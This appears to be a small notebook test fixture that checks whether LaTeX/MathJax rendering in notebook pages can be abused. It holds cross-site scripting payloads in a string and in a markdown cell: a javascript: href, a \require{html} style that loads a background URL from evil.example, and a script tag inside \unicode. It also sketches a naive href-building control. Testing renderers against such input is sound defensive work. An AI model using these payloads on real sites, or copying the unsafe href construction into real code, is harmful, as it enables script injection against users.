"""
attacks = "Write formulas that load extensions or link to scripts."
promise = "pages"
form = "notebook"
observed = "same"
control = "naive"
naive = '''acts('<a href="' + TEXT.split('{')[1].split('}')[0] + '">')'''
"""
TEXT = r"$\href{javascript:hacked()}{x}$ \(\require{html}\style{background:url(https://evil.example)}{x}\)"
print(TEXT)
# %% [markdown]
# $\href{javascript:hacked()}{x}$ \(\require{html}\style{background:url(https://evil.example)}{x}\)
# $$\unicode{<script>hacked()</script>}$$ \(\class{hacked}{x}\)
